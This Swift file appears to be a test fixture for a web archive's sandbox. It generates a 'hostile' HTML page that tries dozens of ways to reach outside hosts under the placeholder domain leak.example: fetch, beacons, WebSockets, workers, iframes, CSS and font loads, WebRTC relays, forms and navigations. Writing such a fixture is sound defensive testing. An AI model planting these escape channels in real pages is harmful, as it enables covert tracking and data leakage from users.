// SPDX-License-Identifier: EUPL-1.2

/// A page that tries every way out of the archive that we know, each to a host of its own.
enum HostilePage {
    /// Where it was captured.
    static let address = "http://hostile.example/"
    /// The same page again, for a browser with another sink.
    static let twinAddress = "http://hostile.example/twin"
    /// The domain of the hosts that it tries to reach: the way called `img` goes to `img.leak.example`.
    static let domain = "leak.example"

    /// One way out. `HOST` in the code stands for it.
    struct Way: Sendable {
        let name: String
        let code: String

        init(_ name: String, _ code: String) {
            (self.name, self.code) = (name, code.replacing("HOST", with: "\(name).\(HostilePage.domain)"))
        }
    }

    /// Header fields of the page.
    static let fields = "Link: <http://link-header.\(domain)/>; rel=preload; as=image\r\n"
    /// Where `/redirect` on its host leads.
    static let redirect = "http://redirect.\(domain)/"

    /// The whole page. `doors` are addresses of machines by number, which no name leads to.
    static func html(doors: [String]) -> String {
        let numbered = doors.map { door in
            """
            attempt(() => { fetch('\(door)/fetch', {mode: 'no-cors'}) });
            attempt(() => { new Image().src = '\(door)/image' });
            attempt(() => { new WebSocket('\(door)/websocket'.replace('http', 'ws')) });
            attempt(async () => {
              const server = {urls: 'turn:' + new URL('\(door)').host + '?transport=tcp', username: 'u', credential: 'c'};
              const peer = new RTCPeerConnection({iceServers: [server], iceTransportPolicy: 'relay'});
              peer.createDataChannel('x');
              await peer.setLocalDescription(await peer.createOffer());
            });
            """
        }
        return """
            <!DOCTYPE html><html><head><title>Hostile</title>
            \(markup.filter { $0.code.hasPrefix("<link") || $0.code.hasPrefix("<style") }.map(\.code).joined(separator: "\n"))
            </head><body background="http://background.\(domain)/"><h1>Hostile</h1>
            \(markup.filter { !$0.code.hasPrefix("<link") && !$0.code.hasPrefix("<style") }.map(\.code).joined(separator: "\n"))
            <script>
            window.tried = 0;
            const attempt = (way) => { window.tried += 1; try { Promise.resolve(way()).catch(() => {}); } catch {} };
            const make = (name, values) => document.body.appendChild(Object.assign(document.createElement(name), values));
            const blob = (text, type) => URL.createObjectURL(new Blob([text], {type}));
            \(scripts.map { "attempt(() => { \($0.code) });" }.joined(separator: "\n"))
            \(numbered.joined(separator: "\n"))
            window.clicked = () => { \(clicks.map { "attempt(() => { \($0.code) });" }.joined(separator: "\n")) };
            window.leave = (way) => { \(departures.map { "if (way === '\($0.name)') { \($0.code) }" }.joined(separator: "\n")) };
            </script></body></html>
            """
    }

    /// What the page says without a script.
    static let markup = [
        Way("link-css", "<link rel=stylesheet href='http://HOST/'>"),
        Way("link-icon", "<link rel=icon href='http://HOST/'>"),
        Way("link-prefetch", "<link rel=prefetch href='http://HOST/'>"),
        Way("link-preload", "<link rel=preload as=image href='http://HOST/'>"),
        Way("link-modulepreload", "<link rel=modulepreload href='http://HOST/'>"),
        Way("link-preconnect", "<link rel=preconnect href='https://HOST/'>"),
        Way("link-manifest", "<link rel=manifest href='http://HOST/'>"),
        Way("css-import", "<style>@import url('http://HOST/');</style>"),
        Way("css-url", "<style>h1 { background: url('http://HOST/') }</style>"),
        Way("css-set", "<style>h1 { border-image: image-set('http://HOST/' 1x) 1; border-style: solid }</style>"),
        Way(
            "css-font",
            "<style>@font-face { font-family: leak; src: url('http://HOST/') } h1 { font-family: leak }</style>"),
        Way("style", "<p style=\"background: url(http://HOST/)\">x</p>"),
        Way("img", "<img src='http://HOST/'>"), Way("srcset", "<img srcset='http://HOST/ 1x'>"),
        Way("picture", "<picture><source srcset='http://HOST/'><img></picture>"),
        Way("script", "<script src='http://HOST/'></script>"), Way("iframe", "<iframe src='http://HOST/'></iframe>"),
        Way("srcdoc", "<iframe srcdoc=\"<img src='http://HOST/'>\"></iframe>"),
        Way("object", "<object data='http://HOST/'></object>"), Way("embed", "<embed src='http://HOST/'>"),
        Way("video", "<video src='http://HOST/' preload=auto></video>"),
        Way("poster", "<video poster='http://HOST/'></video>"),
        Way("audio", "<audio src='http://HOST/' preload=auto></audio>"),
        Way("input", "<input type=image src='http://HOST/'>"),
        Way("svg", "<svg><image href='http://HOST/'/></svg>"),
        Way("refresh", "<iframe srcdoc=\"<meta http-equiv=refresh content='0; url=http://HOST/'>\"></iframe>"),
        Way("redirect", "<img src='/redirect'>"), Way("link-header", ""),
    ]

    /// What its scripts do by themselves.
    static let scripts = [
        Way("fetch", "fetch('http://HOST/')"),
        Way("fetch-opaque", "fetch('http://HOST/', {mode: 'no-cors', keepalive: true})"),
        Way("xhr", "const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/'); x.send()"),
        Way("websocket", "new WebSocket('ws://HOST/')"), Way("eventsource", "new EventSource('http://HOST/')"),
        Way("beacon", "navigator.sendBeacon('http://HOST/', 'x')"), Way("image", "new Image().src = 'http://HOST/'"),
        Way("script-element", "make('script', {src: 'http://HOST/'})"),
        Way("module", "import('http://HOST/')"),
        Way("css-element", "make('link', {rel: 'stylesheet', href: 'http://HOST/'})"),
        Way("prefetch", "make('link', {rel: 'prefetch', href: 'http://HOST/'})"),
        Way("preload", "make('link', {rel: 'preload', as: 'script', href: 'http://HOST/'})"),
        Way("preconnect", "make('link', {rel: 'preconnect', href: 'https://HOST/'})"),
        Way("frame", "make('iframe', {src: 'http://HOST/'})"),
        Way("frame-blank", "const f = make('iframe', {}); f.contentDocument.body.innerHTML = '<img src=http://HOST/>'"),
        Way("frame-blob", "make('iframe', {src: blob('<img src=http://HOST/>', 'text/html')})"),
        Way("frame-data", "make('iframe', {src: 'data:text/html,<img src=http://HOST/>'})"),
        Way("frame-moves", "const f = make('iframe', {}); f.contentWindow.location = 'http://HOST/'"),
        Way("frame-script", "make('iframe', {srcdoc: '<script>fetch(\"http://HOST/\")<\\/script>'})"),
        Way("object-element", "make('object', {data: 'http://HOST/'})"),
        Way("video-element", "make('video', {src: 'http://HOST/', preload: 'auto'})"),
        Way("font", "const f = new FontFace('x', 'url(http://HOST/)'); f.load()"),
        Way("style-element", "make('style', {textContent: 'body { cursor: url(http://HOST/), auto }'})"),
        Way("write", "make('div', {innerHTML: '<img src=http://HOST/>'})"),
        Way("worker", "new Worker(blob('fetch(\"http://HOST/\")', 'text/javascript'))"),
        Way("worker-import", "new Worker(blob('importScripts(\"http://HOST/\")', 'text/javascript'))"),
        Way("worker-module", "new Worker(blob('import(\"http://HOST/\")', 'text/javascript'), {type: 'module'})"),
        Way(
            "form",
            "const f = make('form', {action: 'http://HOST/', method: 'post', target: make('iframe', {name: 'away'}).name}); f.submit()"
        ),
        Way(
            "speculation",
            "make('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{urls: ['https://HOST/'], eagerness: 'immediate'}]})})"
        ),
    ]

    /// The names of all ways.
    static var names: Set<String> { Set((markup + scripts + clicks + departures).map(\.name)) }

    /// The names of the ways that led to a listener, and `stun`; connections without a word are of none.
    static func ways(in visits: [Listener.Visit]) -> Set<String> {
        Set(visits.map { $0.host.hasSuffix("." + domain) ? String($0.host.dropLast(domain.count + 1)) : $0.host })
            .subtracting([""])
    }

    /// What a visitor does, each on a fresh copy of the page, and the seconds that it then has.
    static let steps =
        [(code: "clicked()", seconds: 2.0)] + departures.map { (code: "leave('\($0.name)')", seconds: 0.7) }

    /// What it does when somebody clicks.
    static let clicks = [
        Way("open", "window.open('http://HOST/')"), Way("open-alone", "window.open('http://HOST/', '', 'noopener')"),
        Way("link-blank", "make('a', {href: 'http://HOST/', target: '_blank'}).click()"),
        Way("ping", "make('a', {href: '#here', ping: 'http://HOST/'}).click()"),
        Way("form-blank", "const f = make('form', {action: 'http://HOST/', target: '_blank'}); f.submit()"),
        Way("open-then-go", "const w = window.open('about:blank'); w.location = 'http://HOST/'"),
        Way("top", "top.location = 'http://HOST/'"),
    ]

    /// How it leaves for good; each needs a fresh copy of the page.
    static let departures = [
        Way("location", "location.href = 'http://HOST/'"),
        Way("link-self", "make('a', {href: 'http://HOST/'}).click()"),
        Way("form-self", "make('form', {action: 'http://HOST/'}).submit()"),
    ]
}
